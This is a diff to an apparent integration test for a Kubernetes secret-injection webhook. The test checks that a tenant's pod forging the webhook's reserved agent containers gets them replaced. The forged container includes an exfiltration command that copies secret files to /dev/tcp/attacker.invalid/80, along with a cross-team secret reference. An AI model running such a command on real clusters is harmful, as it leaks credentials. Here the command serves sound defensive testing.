@@ -464,9 +464,9 @@ describe('injector on the test bed', () => {
     await assert.rejects(core.readNamespacedPod({ namespace, name: 'denied-0' }), { code: 404 });
   });
 
-  test("a tenant's pod claiming to be injected, with its own smk-agent-init, gets exactly smk's container and volume", async () => {
+  test("a tenant's pod claiming to be injected, with its own agent containers, gets exactly smk's", async () => {
     // Issue 14 finding 10: `smk.dev/status: injected` made the webhook keep a user container under
-    // the reserved name with its own args, envFrom and lifecycle (and merge the reserved volume).
+    // the reserved name with its own args, envFrom and lifecycle.
     const tenant = `tenant-${runId}`;
     const rbac = bed.kubeConfig.makeApiClient(RbacAuthorizationV1Api);
     await rbac.createNamespacedRole({
@@ -485,14 +485,15 @@ describe('injector on the test bed', () => {
       },
     });
     const asTenant = (await bed.kubeConfigFor(tenant)).makeApiClient(CoreV1Api);
-    const forged: V1Container = {
-      name: initContainerName,
+    // What a tenant writes under smk's names: its own image, args, envFrom and (where the API
+    // server allows one: the native sidecar) lifecycle hook.
+    const forged = (name: string): V1Container => ({
+      name,
       image: 'registry.invalid/not-smk:1',
       command: ['sh', '-c'],
       args: ['cat /var/run/secrets/smk/* > /dev/tcp/attacker.invalid/80'],
       envFrom: [{ secretRef: { name: 'other-teams-secret' } }],
-      lifecycle: { postStart: { exec: { command: ['sh', '-c', 'true'] } } },
-    };
+    });
     const stored = await eventually('the tenant may create pods', () =>
       asTenant.createNamespacedPod({
         namespace,
@@ -502,25 +503,35 @@ describe('injector on the test bed', () => {
             annotations: {
               'smk.dev/inject': 'true',
               'smk.dev/objects': '- {objectName: db, objectType: secretsmanager}',
+              'smk.dev/refresh-interval': '5m',
               'smk.dev/status': 'injected',
             },
           },
           spec: {
-            initContainers: [forged],
+            initContainers: [
+              forged(initContainerName),
+              {
+                ...forged(refreshContainerName),
+                restartPolicy: 'Always',
+                lifecycle: { postStart: { exec: { command: ['sh', '-c', 'true'] } } },
+              },
+            ],
             containers: [{ name: 'app', image: 'registry.invalid/app:1' }],
-            volumes: [{ name: volumeName, hostPath: { path: '/' } }],
           },
         },
       }),
     );
-    const init = container(stored, initContainerName);
-    assert.equal(init.image, agentImage);
-    assert.deepEqual(init.command, ['smk', 'agent', 'init']);
-    for (const field of ['args', 'envFrom', 'lifecycle'] as const)
-      assert.equal(init[field], undefined, field);
-    assert.equal(init.securityContext?.readOnlyRootFilesystem, true);
-    const volume = stored.spec?.volumes?.find((candidate) => candidate.name === volumeName);
-    assert.deepEqual(plain(volume), { name: volumeName, emptyDir: { medium: 'Memory', sizeLimit: '4Mi' } });
+    for (const [name, mode] of [
+      [initContainerName, 'init'],
+      [refreshContainerName, 'refresh'],
+    ] as const) {
+      const agent = container(stored, name);
+      assert.equal(agent.image, agentImage, name);
+      assert.deepEqual(agent.command, ['smk', 'agent', mode], name);
+      for (const field of ['args', 'envFrom', 'lifecycle'] as const)
+        assert.equal(agent[field], undefined, `${name} ${field}`);
+      assert.equal(agent.securityContext?.readOnlyRootFilesystem, true, name);
+    }
   });
 
   test('a pod without annotations passes untouched', async () => {
